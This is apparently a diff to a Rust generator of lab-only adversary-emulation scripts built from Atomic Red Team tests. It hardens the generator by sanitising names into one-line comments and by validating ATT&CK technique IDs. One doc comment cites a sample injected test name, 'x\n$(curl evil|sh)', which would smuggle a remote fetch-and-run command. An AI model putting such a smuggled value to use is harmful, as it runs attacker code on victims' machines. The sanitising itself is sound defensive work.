@@ -4,8 +4,9 @@
 //! techniques in order with the atomic tests' GUIDs (Caldera's atomic plugin imports Atomic Red
 //! Team tests as abilities under those GUIDs).
 //!
-//! Every script starts with a warning to run it only in a lab. Text from outside (actor and test
-//! names) only ever appears in comments, stripped of line breaks so it cannot escape them.
+//! Every script starts with a warning to run it only in a lab. Text from outside (model, actor and
+//! test names, executors) only ever appears in comments, stripped of line breaks so it cannot
+//! escape them; command lines carry only technique IDs of the form `T1234.567` and test numbers.
 
 use serde::Serialize;
 use sha2::{Digest, Sha256};
@@ -33,9 +34,24 @@ fn is_unix(test: &AtomicTest) -> bool {
     test.platforms.iter().any(|p| matches!(p.as_str(), "linux" | "macos" | "containers"))
 }
 
-/// Text safe inside a one-line comment.
+/// Text safe inside a one-line `#` comment of both shells: every character that ends a line
+/// somewhere (`\n`, `\r`, vertical tab, form feed, NEL, U+2028, U+2029) and every other control
+/// character becomes a space, so a test named `x\n$(curl evil|sh)` stays one comment line. No
+/// other character ends a `#` comment in PowerShell or POSIX shells.
 fn comment(text: &str) -> String {
-    text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
+    text.chars().map(|c| if c.is_control() || super::escape::is_line_break(c) { ' ' } else { c }).collect()
+}
+
+/// Whether a technique ID may go into a command line: only `T1234` or `T1234.567`. IDs come from
+/// the ATT&CK bundle, which `--attack-data` can point anywhere, and the shell script puts them
+/// inside single quotes.
+fn is_technique_id(id: &str) -> bool {
+    let (parent, sub) = match id.split_once('.') {
+        Some((p, s)) => (p, Some(s)),
+        None => (id, None),
+    };
+    let digits = |s: &str, n: usize| s.len() == n && s.bytes().all(|b| b.is_ascii_digit());
+    parent.strip_prefix('T').is_some_and(|p| digits(p, 4)) && sub.is_none_or(|s| digits(s, 3))
 }
 
 fn numbers(tests: &[&AtomicTest]) -> String {
@@ -52,7 +68,7 @@ fn header(out: &mut String, a: &Assessment, actor: &ActorEmulation) {
         "# Model: {}\n# Actor: {} ({})\n#\n",
         comment(&a.model.name),
         comment(&actor.name),
-        actor.id
+        comment(&actor.id)
     ));
     for line in WARNING {
         out.push_str(&format!("# {line}\n"));
@@ -111,7 +127,11 @@ fn script_body(
             out.push_str(&format!("\n# ── {} ──\n", comment(tactic)));
         }
         let tests: Vec<&AtomicTest> = step.tests.iter().filter(|t| wanted(t)).collect();
-        out.push_str(&format!("# {} {} — {}", step.technique, comment(&step.name), purpose(step)));
+        out.push_str(&format!("# {} {} — {}", comment(&step.technique), comment(&step.name), purpose(step)));
+        if !is_technique_id(&step.technique) {
+            out.push_str("; not an ATT&CK technique ID, not run\n");
+            continue;
+        }
         if tests.is_empty() {
             out.push_str(if step.tests.is_empty() {
                 "; no atomic test\n"
@@ -122,7 +142,7 @@ fn script_body(
         }
         out.push('\n');
         for t in &tests {
-            let mut notes = vec![t.executor.clone()];
+            let mut notes = vec![comment(&t.executor)];
             if t.elevation_required {
                 notes.push(String::from("needs elevation"));
             }
